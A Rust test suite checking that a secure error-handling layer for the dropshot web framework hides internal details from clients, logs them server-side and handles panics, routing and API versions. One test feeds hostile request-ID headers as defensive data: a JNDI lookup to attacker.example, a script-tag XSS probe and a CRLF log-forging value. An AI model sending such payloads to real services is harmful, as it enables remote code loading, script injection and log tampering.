//! What dropshot answers by itself, and what a handler answers without an error.

use crate::leaky::{self, DSN, KEY, ROLE, unknown_role};
use crate::serve::{Said, serve};
use crate::shop;
use dropshot::{
    ApiDescription, ClientSpecifiesVersionInHeader, HttpResponseOk, RequestContext, WebsocketChannelResult,
    WebsocketConnection, channel, endpoint, semver::Version,
};
use http::HeaderName;
use secure_error::frameworks::dropshot::{seal, seal_versions};
use secure_error::{Fault, SecureErrorLayer};
use secure_error_tests::server::{Answer, get, request, with_body};
use secure_error_tests_frameworks::headers;
use serde_json::Value;

fn ask(request: Vec<u8>) -> (Answer, Value) {
    serve(shop::api(), &[request]).one()
}

#[track_caller]
fn assert_sealed(answer: &Answer, status: u16) {
    assert_eq!(answer.status(), status, "{answer:?}");
    assert_eq!(answer.all("content-type"), ["application/problem+json"]);
    assert_eq!(answer.all("cache-control"), ["no-store"]);
    assert_eq!(answer.json()["request_id"], answer.id());
    for secret in [DSN, KEY, ROLE, "serde", "column"] {
        assert!(!answer.text().contains(secret), "{answer:?}");
    }
}

#[test]
fn a_refused_body_names_no_variant() {
    let (answer, record) = ask(unknown_role());
    assert_sealed(&answer, 400);
    assert_eq!(answer.json()["code"], "BAD_REQUEST");
    assert!(record.to_string().contains(ROLE), "{record}");
}

#[test]
fn a_refused_parameter_says_nothing() {
    let (answer, record) = ask(get("/numbers/many"));
    assert_sealed(&answer, 400);
    assert!(record.to_string().contains("bad parameter in URL path"), "{record}");
}

#[test]
fn a_body_that_is_too_large_is_refused_without_the_limit() {
    let json: &[u8] = b"Content-Type: application/json";
    let (answer, record) = ask(with_body("POST", "/users", &[json], &[b' '; 200]));
    assert_sealed(&answer, 400);
    assert!(record.to_string().contains("maximum size of 100"), "{record}");
}

#[test]
fn an_unknown_path_and_a_wrong_method_are_uniform() {
    let (answer, record) = ask(get("/nowhere"));
    assert_sealed(&answer, 404);
    assert!(record["exception.message"].as_str().unwrap().contains("no route found"));
    for path in ["/users", "/users/"] {
        let (answer, _) = ask(request("DELETE", path, &[]));
        assert_sealed(&answer, 405);
        assert_eq!(answer.all("allow"), ["POST"]);
    }
    assert_sealed(&ask(get("/")).0, 404);
}

#[test]
fn an_answer_that_cannot_be_serialized_is_a_500() {
    let (answer, record) = ask(get("/broken"));
    assert_sealed(&answer, 500);
    assert!(record.to_string().contains(KEY), "{record}");
}

/// dropshot writes its id over the one that the task has made up.
#[test]
fn a_response_that_another_task_made_is_issued_under_the_id_of_dropshot() {
    let said = serve(shop::api(), &[get("/elsewhere")]);
    let answer = said.answers[0].as_ref().unwrap();
    assert_sealed(answer, 404);
    assert_eq!(answer.json()["code"], "NO_ITEM");
    // One of them was written where nothing was known of the request.
    let [made, sent] = &said.records[..] else {
        panic!("two records: {:?}", said.records);
    };
    assert_eq!(sent["fields"]["request_id"], answer.id());
    assert_eq!(sent["fields"]["exception.message"], "no row in items_v2");
    let id = made["fields"]["request_id"].as_str().unwrap();
    let fields = sent["fields"]["fields"].as_str().unwrap();
    assert!(fields.contains("made_for") && fields.contains(id), "{fields}");
}

#[test]
fn an_error_that_a_handler_writes_by_itself_is_sealed() {
    let (answer, record) = ask(get("/text"));
    assert_sealed(&answer, 502);
    assert!(record.to_string().contains(DSN), "{record}");
}

#[test]
fn headers_stay_on_the_statuses_that_give_them_a_meaning() {
    let requests: Vec<_> = headers::requests().collect();
    let paths = requests
        .iter()
        .map(|(how, status, _)| get(&format!("/headers/{how}/{status}")));
    let said = serve(shop::api(), &paths.collect::<Vec<_>>());
    assert_eq!(said.records.len(), requests.len());
    for ((how, status, own), answer) in requests.into_iter().zip(&said.answers) {
        let answer = answer.as_ref().unwrap();
        assert_eq!(answer.status(), status);
        let checked = headers::check(status, own, |name| answer.all(name));
        assert_eq!(checked, Ok(()), "{how}: {answer:?}");
    }
}

/// Documented: dropshot keeps only the status of an error.
#[test]
fn headers_of_a_dropshot_error_that_a_handler_passes_on_are_lost() {
    let (answer, _) = ask(get("/fails/dropshot"));
    assert_sealed(&answer, 410);
    assert_eq!(answer.header("retry-after"), None);
}

#[test]
fn a_panic_is_a_500_and_the_server_goes_on() {
    let said = serve(shop::api(), &[get("/fails/panic"), get("/deals_with_it")]);
    let [panicked, next] = said.answers.try_into().unwrap();
    assert_sealed(&panicked.unwrap(), 500);
    assert_eq!(next.unwrap().status(), 200);
    assert_eq!(said.records.len(), 1);
    assert!(said.records[0].to_string().contains(DSN), "{:?}", said.records);
    assert!(!said.lines.iter().any(|line| line.contains(DSN)), "{:?}", said.lines);
}

#[test]
fn an_answer_to_head_has_no_body() {
    let (answer, record) = ask(request("HEAD", "/nowhere", &[]));
    assert_eq!((answer.status(), answer.body.len()), (404, 0));
    assert_eq!(record["request_id"], answer.id());
    let length = ask(get("/nowhere")).0.body.len();
    assert_eq!(answer.header("content-length"), Some(length.to_string().as_str()));
}

#[test]
fn an_id_of_the_client_is_logged_and_never_sent_back() {
    let layer = SecureErrorLayer::new().trust_incoming_request_id();
    for api in [shop::api(), seal(shop::open(), layer).unwrap()] {
        let sent: &[u8] = b"X-Request-Id: client-1";
        let (answer, record) = serve(api, &[request("GET", "/fails/constant", &[sent])]).one();
        assert_eq!(answer.json()["request_id"], answer.id());
        assert!(!answer.text().contains("client-1"));
        assert_eq!(record["client_request_id"], "client-1");
        assert_eq!(record["request_id"], answer.id());
    }
}

#[test]
fn a_hostile_id_is_dropped() {
    let long = [&b"X-Request-Id: "[..], &[b'a'; 10_000]].concat();
    let hostile: [&[u8]; 5] = [
        b"X-Request-Id: ${jndi:ldap://attacker.example/x}",
        b"X-Request-Id: <script>alert(1)</script>",
        b"X-Request-Id: \xFF\xFEid\x80",
        b"X-Request-Id: a%0d%0aERROR forged",
        &long,
    ];
    for header in hostile {
        let (answer, record) = ask(request("GET", "/fails/constant", &[header]));
        assert_eq!(answer.id().len(), 36, "{answer:?}");
        assert_eq!(answer.json()["request_id"], answer.id());
        assert_eq!(record["client_request_id"], Value::Null);
    }
}

#[test]
fn the_formats_of_the_layer_are_offered() {
    let layer = SecureErrorLayer::new().offer(secure_error::render::Html);
    let api = seal(shop::open(), layer).unwrap();
    let (answer, _) = serve(api, &[request("GET", "/fails/constant", &[b"Accept: text/html"])]).one();
    assert_eq!(answer.header("content-type"), Some("text/html; charset=utf-8"));
}

#[test]
fn what_is_no_error_passes_as_it_is() {
    let json: &[u8] = b"Content-Type: application/json";
    let customer = with_body("POST", "/users", &[json], br#"{"role":"customer"}"#);
    let said = serve(shop::api(), &[customer, get("/numbers/7")]);
    let texts: Vec<_> = said.answers.iter().flatten().map(|answer| &answer.body[..]).collect();
    assert_eq!(texts, [&br#""Customer""#[..], b"7"]);
    assert_eq!(said.records, Vec::<Value>::new());
}

#[test]
fn an_api_whose_errors_cannot_be_seen_is_refused_by_name() {
    let refused = seal(leaky::api(), SecureErrorLayer::new()).map(drop).unwrap_err();
    let text = refused.to_string();
    for name in ["create", "text", "panics", "HttpError"] {
        assert!(text.contains(name), "{text}");
    }
}

#[channel { protocol = WEBSOCKETS, path = "/chat" }]
async fn chat(_: RequestContext<()>, _: WebsocketConnection) -> WebsocketChannelResult {
    Ok(())
}

#[test]
fn a_channel_is_opened_and_what_it_refuses_is_a_400() {
    let sealed = || {
        let mut api = ApiDescription::new();
        api.register(chat).unwrap();
        seal(api, SecureErrorLayer::new()).unwrap()
    };
    let (answer, _) = serve(sealed(), &[get("/chat")]).one();
    assert_sealed(&answer, 400);
    let upgrade = b"GET /chat HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
        Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    let said = serve(sealed(), &[upgrade.to_vec()]);
    assert_eq!(said.answers[0].as_ref().unwrap().status(), 101);
    assert_eq!(said.records, Vec::<Value>::new());
}

#[endpoint { method = GET, path = "/item", versions = "1.0.0".."2.0.0" }]
async fn item_v1(_: RequestContext<()>) -> Result<HttpResponseOk<u8>, Fault> {
    Ok(HttpResponseOk(1))
}

#[endpoint { method = GET, path = "/item", operation_id = "item", versions = "2.0.0".. }]
async fn item_v2(_: RequestContext<()>) -> Result<HttpResponseOk<u8>, Fault> {
    Ok(HttpResponseOk(2))
}

#[test]
fn versions_are_told_apart_behind_the_boundary() {
    let versioned = || {
        let mut api = ApiDescription::new();
        api.register(item_v1).unwrap();
        api.register(item_v2).unwrap();
        api
    };
    let without = seal(versioned(), SecureErrorLayer::new()).map(drop).unwrap_err();
    assert!(without.to_string().contains("seal_versions"), "{without}");

    let policy = || ClientSpecifiesVersionInHeader::new(HeaderName::from_static("api-version"), Version::new(9, 0, 0));
    let serve = |lines: &[&[u8]]| -> Said {
        let api = seal_versions(versioned(), policy(), SecureErrorLayer::new()).unwrap();
        serve(api, &[request("GET", "/item", lines)])
    };
    for (version, body) in [("1.5.0", "1"), ("2.5.0", "2")] {
        let said = serve(&[format!("Api-Version: {version}").as_bytes()]);
        assert_eq!(said.answers[0].as_ref().unwrap().body, body.as_bytes());
    }
    let (answer, record) = serve(&[b"Api-Version: hunter2"]).one();
    assert_sealed(&answer, 400);
    assert!(record.to_string().contains("api-version"), "{record}");
    assert_sealed(&serve(&[b"Api-Version: 0.1.0"]).one().0, 404);
}

/// The limit that `seal` documents: these never get to an endpoint.
#[test]
fn dropshot_refuses_invalid_paths_and_methods_with_constant_texts() {
    let said = serve(
        shop::api(),
        &[get("/users/.."), get("/users/%ff"), request("BREW", "/users", &[])],
    );
    let [dots, bytes, method] = said.answers.try_into().unwrap();
    for answer in [dots.unwrap(), bytes.unwrap()] {
        assert_eq!(
            (answer.status(), &answer.json()["message"]),
            (400, &"invalid path encoding".into())
        );
    }
    let method = method.unwrap();
    assert_eq!(
        (method.status(), &method.json()["message"]),
        (405, &"Method Not Allowed".into())
    );
}
